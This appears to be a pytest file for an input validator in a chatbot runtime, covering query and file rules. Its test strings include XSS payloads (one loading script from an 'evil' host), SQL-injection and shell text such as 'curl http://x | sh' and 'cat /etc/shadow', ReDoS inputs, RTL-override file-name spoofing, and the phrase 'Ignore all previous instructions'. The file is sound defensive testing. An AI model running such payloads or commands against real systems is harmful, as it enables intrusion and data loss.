"""What a query and a file may be."""

from __future__ import annotations

from dataclasses import dataclass

import pytest

from arklex_runtime.errors import ValidationError
from arklex_runtime.security.validation import InputValidator

ORDINARY = [
    "Why was I billed twice?",
    "What does SELECT * FROM users WHERE name = 'x' OR 1=1; DROP TABLE users; -- do?",
    "How do I write <script> in HTML, and what is onclick=?",
    "Explain <script></script> and <img src='a.png'> please",
    "rm -rf / is dangerous, isn't it? ../../etc/passwd too; `cat /etc/shadow` && curl http://x | sh",
    "if a < b and b > c then javascript: is a scheme",
    "Ignore all previous instructions is a phrase",
    "Zeile eins\nZeile zwei\tmit Tab\r\n",
    "مرحبا 你好 שלום 👩‍👩‍👧 é",
    "<b>bold</b> one = <two> = three",
]
MALICIOUS = [
    "a\x00b",
    "a\x1b[31mb",
    "a\x7f",
    "a\x85b",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil/x.js>",
    "＜script＞alert(1)＜/script＞",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1) onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<a href=data:text/html,x>x</a>",
    "invoice\u202eexe.txt",
    "hello\U000e0041",
    "\ud800",
]


@pytest.mark.parametrize("query", ORDINARY)
def test_an_ordinary_question_passes(query: str) -> None:
    assert InputValidator({}).validate_query(f"  {query} ") == query.strip()


@pytest.mark.parametrize("query", MALICIOUS)
def test_what_only_attacks_hold_is_refused(query: str) -> None:
    with pytest.raises(ValidationError, match="malicious"):
        InputValidator({}).validate_query(query)


def test_empty_and_long_queries_are_refused() -> None:
    validator = InputValidator({})
    assert validator.validate_query("x" * 10_000)
    for query, words in (("", "cannot be empty"), (" \n", "cannot be empty"), ("x" * 10_001, "max 10000 characters")):
        with pytest.raises(ValidationError, match=words):
            validator.validate_query(query)
    with pytest.raises(ValidationError, match="max 3"):
        InputValidator({"max_query_length": 3}).validate_query("four")


HOSTILE = [
    "<script>" + "a" * 9990,
    "<script>" + " " * 9980 + "a",
    "<href=" + " " * 9980 + "a",
    "<script " * 1200,
    "<img " + "a " * 4900,
    "<script>" + "<" * 9000,
    "<script>" * 1200,
    "<" + "href=" * 1999,
]


@pytest.mark.parametrize("query", HOSTILE, ids=lambda query: query[:12])
def test_a_hostile_query_does_not_hang_the_patterns(query: str) -> None:
    assert InputValidator({}).validate_query(query)


@dataclass
class File:
    name: str
    size: int = 1


def test_files_are_held_to_size_and_type() -> None:
    validator = InputValidator({"allowed_file_types": ["pdf", ".TXT"]})
    assert validator.validate_file(File("Report.PDF", 10_485_760)) and validator.validate_file(File("a.b.txt", 0))
    for file, words in (
        (File("a.pdf", 10_485_761), r"max 10485760 bytes"),
        (File("a.pdf", -1), "too large"),
        (File("a.exe"), "not allowed: exe"),
        (File("pdf"), "not allowed: none"),
        (File(".pdf"), "not allowed: none"),
        (File("a.pdf.exe"), "not allowed: exe"),
        (File("../a.pdf"), "plain name"),
        (File("a\\b.pdf"), "plain name"),
        (File("a\x00.pdf"), "plain name"),
        (File("fdp\u202e.pdf"), "plain name"),
        (File(""), "plain name"),
    ):
        with pytest.raises(ValidationError, match=words):
            validator.validate_file(file)
    with pytest.raises(ValidationError, match="not allowed: pdf"):
        InputValidator({}).validate_file(File("a.pdf"))
